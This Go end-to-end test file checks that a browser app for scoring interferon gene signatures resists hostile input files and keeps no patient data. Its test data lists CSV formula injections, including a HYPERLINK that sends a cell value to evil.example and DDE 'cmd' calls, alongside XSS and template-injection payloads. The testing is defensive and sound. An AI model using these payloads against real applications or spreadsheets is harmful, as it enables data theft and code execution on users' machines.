package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"ifnscope/score/demo"
)

// hostile are names that do something where they are not taken for text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"open")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+WEBSERVICE("http://evil.example/")`,
	`-2+3+cmd|' /C calc'!A0`,
	`<img src=http://evil.example/a.png onerror="window.pwned=1">`,
	`<script>window.pwned=1;fetch('http://evil.example/')</script>`,
	`<svg onload="window.pwned=1"><image href=http://evil.example/b.png /></svg>`,
	`</title></style></textarea><iframe src=http://evil.example/></iframe>`,
	`javascript:window.pwned=1`,
	`url(http://evil.example/c.png)`,
	`http://evil.example/d?patient=1`,
	"\u202eELS\u202c \u200b\u200d\ufeff zero",
	"&lt;b&gt; &amp;quot; ]]> --> ${7*7} {{7*7}} %s%n",
	"__proto__",
	"x" + strings.Repeat("W", 20_000),
}

// hostileFiles are an expression table and a sample table whose names, columns
// and cells are hostile.
func hostileFiles(b *tab) []string {
	quote := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	samples := numbered("HC%d", 5)
	for i, h := range hostile {
		samples = append(samples, fmt.Sprintf("%s #%d", h, i))
	}
	genes := append(slices.Clone(isgs), numbered("background-%d", 300)...)
	for i, h := range hostile[:14] {
		genes[30+i] = h
	}
	names := slices.Clone(samples)
	for i := range names {
		names[i] = quote(names[i])
	}
	for i := range genes {
		genes[i] = quote(genes[i])
	}
	var clinical strings.Builder
	clinical.WriteString("sample,group,visit,sledai," + quote(hostile[4]) + "," + quote(hostile[5]) + "," + quote(hostile[0]) + "\n")
	for i, s := range names {
		group := "SLE"
		if i < 5 {
			group = "healthy control"
		}
		fmt.Fprintf(&clinical, "%s,%s,%d,%d,%s,%s,%d\n", s, group, 1+i%2, i, []string{"yes", "no"}[i%2], quote(hostile[i%14]), i)
	}
	return []string{b.file("hostile.tsv", table(genes, names)), b.file("people.csv", []byte(clinical.String()))}
}

// quiet asserts that nothing of a hostile file ran, loaded or broke the layout
// of the page that is shown.
func (b *tab) quiet(where string) {
	b.t.Helper()
	for what, bad := range map[string]string{
		"a script ran":              `!!window.pwned`,
		"an element was made of it": `!!document.querySelector('img[src*="evil"], iframe, object, embed, script:not([src]), [onerror], [onload], a[href*="evil"], a[href^="javascript"], image[href*="evil"], [style]')`,
		"the title names it":        `/evil|SLE|HC1|WWWW/.test(document.title)`,
		"the address names it":      `location.search !== "" || location.hash.length > 20`,
	} {
		if eval[bool](b, bad) {
			b.t.Errorf("%s: %s", where, what)
		}
	}
	for _, width := range []int64{1280, 390} {
		b.look(width, 900, "light")
		if over := eval[string](b, `(() => {
			const most = document.documentElement.clientWidth + 1;
			if (document.documentElement.scrollWidth <= most) return "";
			const wide = [...document.querySelectorAll("main *")].find((e) => e.getBoundingClientRect().right > most && !e.closest(".scroll"));
			return document.documentElement.scrollWidth + " px: " + (wide ? wide.outerHTML.slice(0, 200) : "?");
		})()`); over != "" {
			b.t.Errorf("%s: at %d px the page is wider than the screen, %s", where, width, over)
		}
	}
	b.look(1280, 900, "light")
}

// exports presses every button that saves a file of the results and returns
// the files.
func (b *tab) exports() map[string][]byte {
	b.t.Helper()
	files := map[string][]byte{}
	for _, id := range eval[[]string](b, `[...document.querySelectorAll('main button[id^="export-"]')].map((e) => e.id)`) {
		before := len(files)
		b.tap("#" + id + ":not([disabled])")
		for deadline := time.Now().Add(patience); len(files) == before; {
			if time.Now().After(deadline) {
				b.t.Fatalf("#%s saved nothing\n%s", id, b.state())
			}
			list, err := os.ReadDir(b.dir)
			if err != nil {
				b.t.Fatal(err)
			}
			for _, f := range list {
				if filepath.Ext(f.Name()) == ".crdownload" || strings.HasPrefix(f.Name(), ".") {
					continue
				}
				if c, err := os.ReadFile(filepath.Join(b.dir, f.Name())); err == nil && len(c) > 0 {
					files[f.Name()] = c
				}
			}
			eval[bool](b, `new Promise(r => setTimeout(() => r(true), 20))`)
		}
	}
	return files
}

// TestHostile opens files whose names, columns and cells are made to run, to
// load or to break the page, goes to every page, and saves everything.
func TestHostile(t *testing.T) {
	b := visit(t, serve(t), "/")
	b.ready()
	b.watch()
	mark := b.mark()
	b.files(hostileFiles(b)...)
	b.wait("the files are read", `location.pathname === "/check" && !!document.querySelector("#score")`)
	b.text("5 healthy controls")
	b.quiet("check")
	b.click("#export-identifiers")
	b.download("ifnscope-identifiers.tsv")
	b.remove("ifnscope-identifiers.tsv")
	b.tap("#score:not([disabled])")
	b.wait("the results are shown", `location.pathname === "/results" && !!document.querySelector("#auc")`)
	b.quiet("results")
	for i := range 3 { // people, one after the other
		b.tap(fmt.Sprintf(`table.scores tbody tr:nth-child(%d) button`, 1+4*i))
		b.wait("a sample is shown", `!!document.getElementById("person")`)
		b.quiet("a person")
	}
	files := b.exports()
	b.press("Cohort: agreement, visits, cut-offs")
	b.wait("the cohort is compared", `!!document.querySelector("#agreement table")`)
	b.quiet("cohort")
	for _, page := range []string{"Signatures", "Methods", "Privacy", "About"} {
		b.press(page)
		b.wait(page+" is shown", `!!document.querySelector("main h1")`)
		b.quiet(page)
	}
	if len(files) < 4 {
		t.Errorf("only these were saved: %q", slices.Sorted(maps.Keys(files)))
	}
	for name, content := range files {
		b.harmless(name, string(content))
	}
	if sent := b.sent(mark); len(sent) > 0 {
		t.Errorf("these were asked for: %v", sent)
	}
}

// signed is a cell that begins as a number does and calls something.
var signed = regexp.MustCompile(`^[+-].*([A-Za-z]\(|[|!&])`)

// harmless asserts that a saved file does nothing where it is opened: in a
// spreadsheet, as a page or as a picture.
func (b *tab) harmless(name, content string) {
	b.t.Helper()
	switch filepath.Ext(name) {
	case ".tsv", ".csv":
		sep := map[string]string{".tsv": "\t", ".csv": ","}[filepath.Ext(name)]
		for line := range strings.Lines(content) {
			for cell := range strings.SplitSeq(strings.TrimRight(line, "\r\n"), sep) {
				cell = strings.TrimLeft(cell, `" `)
				if cell != "" && (strings.ContainsRune("=@", rune(cell[0])) || signed.MatchString(cell)) {
					b.t.Errorf("%s: a spreadsheet computes the cell %.60q", name, cell)
				}
			}
		}
	case ".svg", ".html":
		kind := map[string]string{".svg": "image/svg+xml", ".html": "text/html"}[filepath.Ext(name)]
		js, _ := json.Marshal(content)
		if bad := eval[string](b, fmt.Sprintf(`(() => {
			const d = new DOMParser().parseFromString(%s, %q);
			if (d.querySelector("parsererror")) return d.querySelector("parsererror").textContent;
			const e = d.querySelector('script, iframe, object, embed, foreignObject, link, [onerror], [onload], [href*="evil"], [src*="evil"], a[href^="javascript"]');
			return e ? e.outerHTML.slice(0, 200) : "";
		})()`, js, kind)); bad != "" {
			b.t.Errorf("%s has %s", name, bad)
		}
	case ".json":
		if !json.Valid([]byte(content)) {
			b.t.Errorf("%s is not valid", name)
		}
	}
}

// TestNothingIsKept uses the app with files of a person and looks at every
// place where a browser could have kept something.
func TestNothingIsKept(t *testing.T) {
	s := serve(t)
	b := visit(t, s, "/")
	b.ready()
	var files []string
	for _, f := range demo.Files() {
		files = append(files, b.file("visit-"+f.Name, demo.Bytes(f.Name)))
	}
	b.drop(files...)
	b.wait("the files are read", `location.pathname === "/check" && !!document.querySelector("#score")`)
	b.tap("#score:not([disabled])")
	b.wait("the results are shown", `location.pathname === "/results" && !!document.querySelector("#auc")`)
	b.tap(`table.scores tbody tr button`)
	b.wait("a sample is shown", `!!document.getElementById("person")`)
	b.exports()
	for what, kept := range map[string]string{
		"a cookie":               `document.cookie`,
		"local storage":          `JSON.stringify({...localStorage}).slice(2, -1)`,
		"session storage":        `JSON.stringify({...sessionStorage}).slice(2, -1)`,
		"a database":             `indexedDB.databases().then((l) => l.map((d) => d.name).join())`,
		"a file of the origin":   `navigator.storage.getDirectory().then(async (d) => { const l = []; for await (const k of d.keys()) l.push(k); return l.join(); })`,
		"the state of a history": `JSON.stringify(history.state ?? "").slice(1, -1)`,
		"the name of the window": `window.name`,
		"the address":            `location.search + location.hash`,
		"the title":              `/SLE|HC|visit-/.test(document.title) ? document.title : ""`,
		"another worker":         `navigator.serviceWorker.getRegistrations().then((l) => l.length > 1 ? l.length + " registrations" : "")`,
	} {
		if v := eval[string](b, kept); v != "" {
			t.Errorf("%s keeps %q", what, v)
		}
	}
	for _, kept := range eval[[]string](b, `caches.keys().then(async (names) => {
		const l = [];
		for (const n of names) for (const r of await (await caches.open(n)).keys()) l.push(n + " " + r.method + " " + new URL(r.url).pathname + new URL(r.url).search);
		return l;
	})`) {
		f := strings.Fields(kept)
		if len(f) != 3 || !strings.HasPrefix(f[0], "ifnscope-") || f[1] != "GET" || strings.ContainsAny(f[2], "?=") || strings.Contains(f[2], "visit-") {
			t.Errorf("the cache keeps %q", kept)
		}
	}
	b.mu.Lock()
	said := strings.Join(b.console, "\n")
	b.mu.Unlock()
	if said != "" {
		t.Errorf("the console says %q", said)
	}
	b.reload()
	b.text("Nothing is scored yet")
}
